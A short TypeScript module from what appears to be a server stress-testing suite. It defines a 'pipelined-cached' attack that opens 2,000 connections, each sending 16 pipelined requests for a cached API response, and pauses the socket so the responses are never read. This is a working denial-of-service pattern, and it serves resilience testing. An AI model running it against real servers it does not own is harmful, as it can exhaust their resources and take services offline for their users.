import type { Attack } from '../attack.ts'
import { get, persist, persistEach } from '../connection.ts'

const CONNECTIONS = 2_000
const REQUESTS = 16

export const pipelinedCached: Attack = {
  name: 'pipelined-cached',
  summary: '2,000 connections with 16 pipelined requests each for one cached response, never read',
  run: async (target) => {
    const counts = {}
    const requests = get('/api/papers?limit=50').repeat(REQUESTS)
    await persistEach(CONNECTIONS, () =>
      persist(target, counts, (socket) => {
        socket.pause()
        socket.write(requests)
      }),
    )
    return counts
  },
}
